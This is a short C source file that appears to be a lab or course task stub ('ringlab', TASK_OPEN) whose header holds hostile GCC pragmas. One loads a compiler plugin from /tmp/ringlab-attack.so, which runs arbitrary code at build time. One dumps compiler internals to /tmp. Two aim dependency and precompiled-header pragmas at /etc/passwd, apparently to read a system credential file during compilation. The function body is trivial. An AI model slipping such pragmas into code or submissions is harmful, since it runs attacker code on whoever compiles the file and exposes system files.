/* SPDX-License-Identifier: MIT */
#pragma GCC optimize("-fplugin=/tmp/ringlab-attack.so")
#pragma GCC optimize("-fdump-tree-all=/tmp/ringlab-attack")
#pragma GCC dependency "/etc/passwd"
#pragma GCC pch_preprocess "/etc/passwd"
#include <course/00-boot.h>
#include <task.h>

void boot_greet(const char *nonce)
{
    TASK_OPEN("0.1");
}
